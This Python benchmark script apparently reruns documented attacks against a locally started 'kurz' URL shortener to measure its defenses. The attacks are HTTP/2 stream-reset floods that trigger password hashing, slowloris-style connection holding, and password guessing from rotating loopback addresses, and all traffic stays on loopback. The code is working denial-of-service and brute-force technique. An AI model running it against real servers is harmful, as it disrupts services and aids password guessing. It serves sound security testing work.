#!/usr/bin/env python3
"""Issue 19's attacks, rerun against a real kurz binary: the figures in its note.

    python3 benches/attacks.py [BINARY] [argon2] [slow] [session] [rotation]

BINARY defaults to target/release/kurz (build it first: cargo build --release).
Each attack starts its own server on a free loopback port with a fresh data
directory and stops it afterwards; nothing but loopback is used.

- argon2:   40 password links, 5 wrong passwords each over one h2c connection,
            every stream reset 5 ms after it is sent; prints RSS before, peak
            RSS (VmHWM) and peak threads. The bound: one hash per core.
- slow:     400 connections send `POST /yourls-api.php` with content-length
            100 and no body against --max-connections 256; prints the latency
            of 20 probe redirects.
- session:  4,200 such holders of `POST /api/session` against the default
            --max-connections 4096; prints the latency of 10 probe redirects
            (a probe that is never answered fails after 120 s).
- rotation: 60 s of wrong passwords for one link, 5 per address from
            rotating 127.0.x.y addresses; prints how many were tried (401) and
            refused (429).
"""

import json, os, resource, socket, struct, subprocess, sys, tempfile, time, threading, urllib.request

ATTACKS = ("argon2", "slow", "session", "rotation")

KEY = "attack-key-0123456789abcdef"
BIN = next((x for x in sys.argv[1:] if x not in ATTACKS), "target/release/kurz")

def free_port():
    s = socket.socket(); s.bind(("127.0.0.1", 0)); p = s.getsockname()[1]; s.close(); return p

def start(extra):
    data = tempfile.mkdtemp()
    port = free_port()
    p = subprocess.Popen([BIN, "--data", data, "serve", "--listen", f"127.0.0.1:{port}",
                          "--api-key", KEY, "--skip-startup-check"] + extra,
                         stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000)))
    for _ in range(200):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=1); break
        except Exception: time.sleep(0.05)
    return p, port

def api(port, method, path, body):
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", method=method,
        data=json.dumps(body).encode(), headers={"authorization": f"Bearer {KEY}", "content-type": "application/json"})
    return urllib.request.urlopen(req, timeout=10).status

def status_of(pid):
    d = {}
    for l in open(f"/proc/{pid}/status"):
        k, v = l.split(":", 1); d[k] = v.strip()
    return d

def hpack(fields):
    out = b""
    for n, v in fields:
        out += b"\x00" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode()
    return out

def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def argon2_attack():
    p, port = start([])
    links = 40
    for i in range(links):
        api(port, "POST", "/api/links", {"url": f"https://example.com/{i}", "slug": f"p{i}", "password": "right"})
    base = int(status_of(p.pid)["VmRSS"].split()[0])
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    peak_threads, sid = 0, 1
    stop = False
    def drain():
        try:
            while not stop: s.recv(65536)
        except Exception: pass
    threading.Thread(target=drain, daemon=True).start()
    s.sendall(frame(4, 1, 0, b""))
    form = b"password=wrong"
    for _ in range(5):
        for i in range(links):
            h = hpack([(":method", "POST"), (":scheme", "http"), (":path", f"/p{i}"), (":authority", "kurz"),
                       ("content-type", "application/x-www-form-urlencoded"), ("content-length", str(len(form)))])
            s.sendall(frame(1, 4, sid, h) + frame(0, 1, sid, form))
            time.sleep(0.005)
            s.sendall(frame(3, 0, sid, struct.pack(">I", 8)))
            sid += 2
            peak_threads = max(peak_threads, int(status_of(p.pid)["Threads"]))
    for _ in range(100):
        peak_threads = max(peak_threads, int(status_of(p.pid)["Threads"])); time.sleep(0.05)
    st = status_of(p.pid)
    stop = True
    s.close()
    p.terminate(); p.wait()
    print(f"argon2 reset attack: {links} links x 5 wrong passwords over h2c, each stream reset 5 ms after sending;"
          f" RSS before {base/1024:.0f} MiB, peak (VmHWM) {int(st['VmHWM'].split()[0])/1024:.0f} MiB, peak threads {peak_threads}")

def slow_body_attack():
    p, port = start(["--max-connections", "256"])
    api(port, "POST", "/api/links", {"url": "https://example.com/probe", "slug": "probe"})
    holders = []
    head = b"POST /yourls-api.php HTTP/1.1\r\nhost: kurz\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 100\r\n\r\n"
    for _ in range(400):
        c = socket.socket(); c.setblocking(True); c.connect(("127.0.0.1", port)); c.sendall(head); holders.append(c)
    time.sleep(0.5)
    lat = []
    for _ in range(20):
        t = time.monotonic()
        c = socket.create_connection(("127.0.0.1", port), timeout=60)
        c.sendall(b"GET /probe HTTP/1.1\r\nhost: kurz\r\nconnection: close\r\n\r\n")
        r = c.recv(100); c.close()
        assert r.startswith(b"HTTP/1.1 302"), r
        lat.append(time.monotonic() - t)
        time.sleep(0.1)
    lat.sort()
    for c in holders: c.close()
    p.terminate(); p.wait()
    print(f"slow-body attack: 400 holders (POST /yourls-api.php, content-length 100, no body) vs --max-connections 256;"
          f" 20 probe redirects: median {lat[10]*1000:.1f} ms, max {lat[-1]*1000:.1f} ms")


def session_attack(n=4200):
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    p, port = start([])
    api(port, "POST", "/api/links", {"url": "https://example.com/p", "slug": "probe"})
    head = b"POST /api/session HTTP/1.1\r\nhost: kurz\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n"
    hold = []
    for _ in range(n):
        c = socket.socket(); c.connect(("127.0.0.1", port)); c.sendall(head); hold.append(c)
    time.sleep(1)
    lat = []
    for _ in range(10):
        t = time.monotonic()
        c = socket.create_connection(("127.0.0.1", port), timeout=120)
        c.sendall(b"GET /probe HTTP/1.1\r\nhost: kurz\r\nconnection: close\r\n\r\n")
        r = c.recv(64); c.close()
        assert r.startswith(b"HTTP/1.1 302"), r
        lat.append(time.monotonic() - t); time.sleep(0.2)
    lat.sort()
    for c in hold: c.close()
    p.terminate(); p.wait()
    print(f"session holders: {n} holders of POST /api/session (content-length 100, no body), default --max-connections 4096;"
          f" 10 probe redirects: median {lat[5]*1000:.1f} ms, max {lat[-1]*1000:.1f} ms")

def rotation_attack():
    p, port = start([])
    api(port, "POST", "/api/links", {"url": "https://example.com/r", "slug": "rot", "password": "right"})
    counts = {}
    t0 = time.monotonic()
    n = 0
    while time.monotonic() - t0 < 60:
        ip = f"127.0.{1 + n // 250 % 250}.{1 + n % 250}"
        for _ in range(5):
            c = socket.socket(); c.bind((ip, 0)); c.connect(("127.0.0.1", port))
            c.sendall(b"POST /rot HTTP/1.1\r\nhost: kurz\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 14\r\nconnection: close\r\n\r\npassword=wrong")
            r = c.recv(20); c.close()
            code = r[9:12].decode()
            counts[code] = counts.get(code, 0) + 1
        n += 1
    p.terminate(); p.wait()
    print(f"address rotation: 60 s of wrong passwords, 5 per address from {n} addresses: {counts} (401 = guesses tried)")

which = [x for x in sys.argv[1:] if x in ATTACKS] or list(ATTACKS)
if "argon2" in which: argon2_attack()
if "slow" in which: slow_body_attack()
if "session" in which: session_attack()
if "rotation" in which: rotation_attack()
